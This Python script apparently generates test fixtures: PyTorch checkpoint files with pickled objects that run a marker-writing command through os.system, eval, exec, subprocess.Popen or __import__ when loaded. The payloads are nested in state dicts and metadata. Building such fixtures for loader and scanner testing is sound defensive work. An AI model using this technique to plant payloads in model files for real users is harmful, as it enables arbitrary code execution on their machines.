"""Hostile files that run a command when they are unpickled, written with Python as an attacker would.

    hostile_pickles.py FOLDER MARKER

Each would write the file MARKER. Writes FOLDER/NAME.zip and FOLDER/NAME.legacy; NAME is the called function.
"""

import os
import subprocess
import sys

import torch


class Call:
    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def main(folder, marker):
    command = f"touch '{marker}'"
    attacks = {
        "posix.system": Call(os.system, command),
        "builtins.eval": Call(eval, f"__import__('os').system({command!r})"),
        "builtins.exec": Call(exec, f"import os; os.system({command!r})"),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", marker]),
        "builtins.__import__": Call(__import__, "os"),
    }
    for name, attack in attacks.items():
        # Among real tensors, deeply nested, and as an attribute of the dictionary.
        state = torch.nn.BatchNorm2d(2).state_dict()
        state["deep"] = {"list": [1, (2, {"x": attack})]}
        for form, new in [("zip", True), ("legacy", False)]:
            torch.save(state, os.path.join(folder, f"{name}.{form}"), _use_new_zipfile_serialization=new)
        state = torch.nn.BatchNorm2d(2).state_dict()
        state._metadata = attack
        torch.save(state, os.path.join(folder, f"{name}.metadata.zip"))


main(*sys.argv[1:])
